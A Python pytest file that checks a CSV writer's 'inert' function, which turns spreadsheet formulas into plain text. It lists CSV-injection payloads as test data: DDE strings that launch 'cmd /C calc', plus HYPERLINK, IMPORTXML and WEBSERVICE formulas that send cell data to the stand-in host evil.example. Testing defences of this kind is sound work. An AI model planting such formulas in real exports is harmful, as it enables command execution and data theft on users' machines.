import csv
import io

import pytest

from catalogue.writers import csv_lines, inert

DANGEROUS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")', "=DDE(server; file; item; mode)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    '=WEBSERVICE("http://evil.example/"&A2)', '="', "=", "+", "-", "@", "--1", "+-+1", "-5-cmd",
    "-5e", "+3.2=1", "- wool", "\t=1+1", "\tshoes", "\r=1+1", "\rshoes", "\n=1+1", "\nshoes",
    "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x08 @x", " \t@x",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "=1+1,=1+1", "-\u0665",
)  # fmt: skip
HARMLESS = (
    "", "shoes", "-5", "+3.2", "-.5", "-1,234.50", "+1e-7", "5-3", "a=b", "me@example.com", "'=1+1",
    '"=1+1"', "00123", " shoes", "photos/a b.jpg", "https://shop.example/a.jpg?x=1&y=-2",
    "shoes 0.52; hats 0.31", "кеды", "−5", "#REF", "shoes\n=1+1",
)  # fmt: skip


def round_trip(cell: object) -> str:
    """What a reader of CSV gets, between two others."""
    ((first, read, last),) = csv.reader(io.StringIO("".join(csv_lines([["a", cell, "b"]])), newline=""))
    assert (first, last) == ("a", "b")
    return read


@pytest.mark.parametrize("cell", DANGEROUS, ids=ascii)
def test_a_formula_is_text_after_a_round_trip(cell: str) -> None:
    assert round_trip(inert(cell)) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert round_trip(inert(cell)) == cell


@pytest.mark.parametrize("cell", [None, -5, -0.5, True, float("-inf")])
def test_what_is_no_text_stays_what_it_is(cell: object) -> None:
    assert inert(cell) is cell


def test_a_long_cell_is_looked_at_quickly() -> None:
    assert inert(" " * 1_000_000 + "shoes") == " " * 1_000_000 + "shoes"
    assert str(inert("-" + "1" * 1_000_000 + "x")).startswith("'-1")
